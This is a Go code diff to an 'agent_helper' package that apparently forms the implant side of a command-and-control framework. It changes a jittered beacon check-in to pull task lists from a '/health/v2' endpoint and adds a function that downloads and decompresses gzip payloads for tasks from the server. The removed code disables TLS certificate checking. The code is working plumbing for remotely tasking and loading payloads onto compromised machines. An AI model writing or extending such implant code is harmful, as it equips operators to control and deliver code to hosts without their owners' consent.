@@ -3,6 +3,7 @@
 package agent_helper
 
 import (
+	"compress/gzip"
 	crand "crypto/rand"
 	"crypto/tls"
 	"encoding/hex"
@@ -87,28 +88,30 @@ func InitialCheckin(serverUrl string, initialInfo InitialInfo) {
 	}
 }
 
-func CheckIn(serverAddr string, session string) (int, error) {
-	url := fmt.Sprintf("%s/health/%s", serverAddr, session)
-	// Prevent auto redirects so if there is tasking 301 is actually returned and
-	// we can fetch tasking, otherwise the main function will just return 200
-	// and we will never get the tasking
-	client := &http.Client{
-		CheckRedirect: func(req *http.Request, via []*http.Request) error {
-			return http.ErrUseLastResponse
-		},
-		Transport: &http.Transport{
-			TLSClientConfig:   &tls.Config{InsecureSkipVerify: true},
-			DisableKeepAlives: true,
-		},
-		Timeout: 10 * time.Second,
-	}
-
-	resp, err := client.Get(url)
+type CheckInResponse struct {
+	Session     string                   `json:"session"`
+	LastCheckin string                   `json:"last_checkin"`
+	Tasks       []map[string]interface{} `json:"tasks"`
+}
+
+// CheckIn hits the v2 health endpoint, the heartbeat and any new tasking come back in one response
+func CheckIn(serverAddr string, session string) (int, []map[string]interface{}, error) {
+	url := fmt.Sprintf("%s/health/v2/%s", serverAddr, session)
+
+	resp, err := CustomClient.Get(url)
 	if err != nil {
-		return 0, nil
+		return 0, nil, nil
 	}
 	defer resp.Body.Close()
-	return resp.StatusCode, nil
+	if resp.StatusCode != 200 {
+		return resp.StatusCode, nil, nil
+	}
+	var checkIn CheckInResponse
+	err = json.NewDecoder(resp.Body).Decode(&checkIn)
+	if err != nil {
+		return resp.StatusCode, nil, err
+	}
+	return resp.StatusCode, checkIn.Tasks, nil
 }
 
 func FetchTasking(serverAddr string, session string) (string, error) {
@@ -126,6 +129,26 @@ func FetchTasking(serverAddr string, session string) (string, error) {
 	return string(bodyBytes), nil
 }
 
+// FetchPayload streams the gzip payload of an upload task from the blob store and decompresses it
+func FetchPayload(serverAddr string, taskData map[string]interface{}) ([]byte, error) {
+	url := fmt.Sprintf("%s/tasks/%s/%d/payload", serverAddr, taskData["session"], int(taskData["id"].(float64)))
+
+	resp, err := CustomClient.Get(url)
+	if err != nil {
+		return nil, err
+	}
+	defer resp.Body.Close()
+	if resp.StatusCode != 200 {
+		return nil, fmt.Errorf("payload fetch failed: %d", resp.StatusCode)
+	}
+	gzipData, err := gzip.NewReader(resp.Body)
+	if err != nil {
+		return nil, err
+	}
+	defer gzipData.Close()
+	return io.ReadAll(gzipData)
+}
+
 func RandomJitter(baseMinutes int, jitterPercent int) time.Duration {
 	randomPercent := rng.Intn(jitterPercent + 1)
 	jitterFraction := float64(randomPercent) / 100.0